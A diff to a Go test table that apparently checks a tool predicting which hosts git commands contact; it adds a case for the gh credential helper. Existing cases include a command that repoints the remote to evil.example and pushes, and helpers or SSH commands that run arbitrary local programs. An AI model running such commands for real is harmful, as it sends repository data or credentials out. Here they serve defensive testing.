@@ -137,6 +137,7 @@ func TestHostsOfGit(t *testing.T) {
 		{name: "a setting on the line", setup: origin("https://a.example/x"), command: "git -c http.proxy=http://p.example push", want: "~a.example:443 ?"},
 		{name: "another ssh", setup: origin("git@a.example:x"), command: "GIT_SSH_COMMAND=./x git push", want: "~a.example:22 ?"},
 		{name: "a helper", setup: origin("https://a.example/x"), user: "[credential]\n helper = ./x\n", command: "git push", want: "~a.example:443 ?"},
+		{name: "the helper of gh", setup: origin("https://a.example/x"), user: "[credential]\n helper = !/usr/bin/gh auth git-credential\n", command: "git push", want: "~a.example:443*"},
 		{name: "a usual helper", setup: origin("https://a.example/x"), user: "[credential]\n helper = cache --timeout=60\n", command: "git push", want: "~a.example:443*"},
 		{name: "changed before", setup: origin("https://a.example/x"), command: "git remote set-url origin https://evil.example/; git push", want: "~a.example:443 ?"},
 		{name: "a program before", setup: origin("https://a.example/x"), command: "make && git push", want: "~a.example:443 ?"},
